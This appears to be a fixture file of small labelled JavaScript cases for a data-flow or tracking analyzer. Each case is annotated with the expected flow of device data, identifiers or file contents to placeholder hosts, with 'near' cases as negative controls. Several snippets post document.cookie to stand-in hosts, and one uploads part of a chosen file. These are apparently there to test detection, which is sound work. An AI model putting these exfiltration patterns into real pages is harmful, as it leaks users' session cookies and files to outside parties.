//# key-that-left-early
// flow: device > us.kle.tb13.example via fetch
// flow: device > eu.kle.tb13.example via fetch
// why: at the table the region is not the one of the empty entry
const hosts = { US: 'https://us.kle.tb13.example', EU: 'https://eu.kle.tb13.example', OWN: '' };
function base(key, own) {
  const region = key.split('-')[1];
  if (region === 'OWN') {
    if (!own) return;
    return own + '/v0';
  }
  return hosts[region] + '/v0';
}
window.track = (key, own) => fetch(base(key, own), { method: 'POST', body: navigator.language });

//# key-tested-around
// flow: device > a.kta.tb13.example via beacon
// why: only what is not `self-hosted` is looked up
const hosts = { a: 'https://a.kta.tb13.example/e', 'self-hosted': '/e' };
window.report = (region) => {
  if ('self-hosted' != region) navigator.sendBeacon(hosts[region], navigator.platform);
};

//# near-key-of-another-test
// flow: device > us.kat.tb13.example via fetch
// flow: device > self via fetch
// why: the plan was tested, not the region
const hosts = { US: 'https://us.kat.tb13.example', OWN: '' };
window.track = (region, plan) => {
  if (plan === 'OWN') return;
  fetch(hosts[region] + '/v0', { method: 'POST', body: navigator.language });
};

//# near-key-given-anew
// flow: device > us.kga.tb13.example via fetch
// flow: device > self via fetch
// why: after the test the region is read again
const hosts = { US: 'https://us.kga.tb13.example', OWN: '' };
window.track = (region) => {
  if (region === 'OWN') return;
  region = localStorage.getItem('region');
  fetch(hosts[region] + '/v0', { method: 'POST', body: navigator.language });
};

//# serializer-handed-in-or-json
// flow: identifier > soj.tb13.example via fetch
// why: whichever serializer it is, JSON is one of them
const fallback = JSON;
function bodyOf(query, variables, serializer) {
  const used = serializer ?? fallback;
  return used.stringify({ query, variables });
}
fetch('https://soj.tb13.example/graphql', { method: 'POST', body: bodyOf('{ me }', { id: document.cookie }, window.options) });

//# near-own-serializer-that-names-the-keys
// no flow
const own = { stringify: (object) => Object.keys(object).join() };
function bodyOf(query, variables, serializer) {
  const used = serializer || own;
  return used.stringify({ query, variables });
}
fetch('https://oss.tb13.example/graphql', { method: 'POST', body: bodyOf('{ me }', { id: document.cookie }) });

//# body-mixed-into-a-request-class
// flow: identifier > bmr.tb13.example via xhr
// why: `Body.call(Request.prototype)` gives requests the method that keeps the body
function Body() {
  this._initBody = function (body) { this._bodyInit = body; };
  this.text = function () { return Promise.resolve(this._bodyInit); };
  return this;
}
function Request(input, options) {
  this.url = String(input);
  this.method = options.method || 'GET';
  this._initBody(options.body);
}
Body.call(Request.prototype);
function send(input, options) {
  const request = new Request(input, options);
  const xhr = new XMLHttpRequest();
  xhr.open(request.method, request.url, true);
  xhr.send(request._bodyInit);
}
send('https://bmr.tb13.example/x', { method: 'POST', body: document.cookie });

//# near-body-mixed-into-another-class
// no flow
// why: answers keep the body, and only requests are sent
function Body() {
  this._initBody = function (body) { this._bodyInit = body; };
  return this;
}
function Answer(body) { this._initBody(body); }
Body.call(Answer.prototype);
function Request(input) { this.url = String(input); this._bodyInit = 'none'; }
const kept = new Answer(document.cookie);
const request = new Request('https://bma.tb13.example/x');
const xhr = new XMLHttpRequest();
xhr.open('POST', request.url, true);
xhr.send(request._bodyInit);
document.querySelector('#kept').textContent = kept._bodyInit;

//# near-answer-read-by-a-reader
// flow: device > arr.tb13.example via fetch
// why: what the reader reads is what the server answered, no chosen file
function textOf(blob) {
  return new Promise((done) => {
    const reader = new FileReader();
    reader.onload = () => done(reader.result);
    reader.readAsText(blob);
  });
}
const xhr = new XMLHttpRequest();
xhr.open('GET', '/settings');
xhr.responseType = 'blob';
xhr.onload = async () => {
  const settings = await textOf(xhr.response);
  fetch('https://arr.tb13.example/s?of=' + encodeURIComponent(settings) + '&l=' + navigator.language);
};
xhr.send();

//# piece-of-a-file-read-by-a-reader
// flow: file > pfr.tb13.example via fetch
document.querySelector('input[type=file]').addEventListener('change', (event) => {
  const piece = event.target.files[0].slice(0, 4096);
  const reader = new FileReader();
  reader.onload = () => fetch('https://pfr.tb13.example/', { method: 'POST', body: reader.result });
  reader.readAsArrayBuffer(piece);
});
